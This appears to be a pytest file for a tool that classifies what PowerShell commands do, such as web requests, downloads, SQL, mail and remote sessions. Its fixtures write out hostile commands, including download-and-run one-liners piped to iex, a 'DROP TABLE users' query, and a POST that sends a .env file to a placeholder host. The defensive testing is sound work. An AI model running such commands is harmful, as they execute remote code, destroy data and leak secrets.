"""Cmdlets that reach the network, databases and other machines."""

from __future__ import annotations

import pytest
from support.code import deeds, powershell

from enactd.effects.model import Request


@pytest.mark.parametrize(
    ("code", "method", "changes"),
    [
        ("Invoke-WebRequest https://x.y", "GET", "nothing"),
        ("iwr -Uri https://x.y -UseBasicParsing", "GET", "nothing"),
        ("irm https://x.y -Method Delete", "DELETE", "destroys"),
        ("Invoke-RestMethod -Uri https://x.y -Method Post -Body '{}'", "POST", "something"),
        ("irm https://x.y -Method Post -Body @{a = 1}", "POST", "something"),
    ],
)
def test_requests(code: str, method: str, changes: str) -> None:
    """Method and meaning are told."""
    (found,) = powershell(code)
    assert isinstance(found, Request)
    assert (method, "x.y", changes) == (found.method, found.host, found.changes)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("iwr https://x.y/a.zip -OutFile a.zip", ["Request x.y", "WritePath C:/src/app/a.zip"]),
        ("Start-BitsTransfer https://x.y/a b", ["Request x.y", "WritePath C:/src/app/b"]),
        ("iex (iwr https://x.y)", ["Request x.y", "RunCode download"]),
        ("irm https://x.y | iex", ["Request x.y", "RunCode download"]),
        ("iex (irm https://x.y).Content", ["Request x.y", "RunCode download"]),
        ("Send-MailMessage -To a@b.c -Subject x", ["SendMessage a@b.c"]),
        ("Invoke-Sqlcmd -Query 'DROP TABLE users'", ["RunSql users"]),
        ("Enter-PSSession srv", ["OpenShell srv"]),
        ("Test-NetConnection x.y -Port 80", []),
        ("Resolve-DnsName x.y", []),
    ],
)
def test_network(code: str, expected: list[str]) -> None:
    """What comes and goes is told."""
    assert expected == deeds(powershell(code))


def test_secrets_go_along() -> None:
    """A secret stays one on its way out."""
    requests = [
        e for e in powershell("irm https://x.y -Method Post -Body (Get-Content .env -Raw)") if isinstance(e, Request)
    ]
    assert "secret" in requests[0].carries
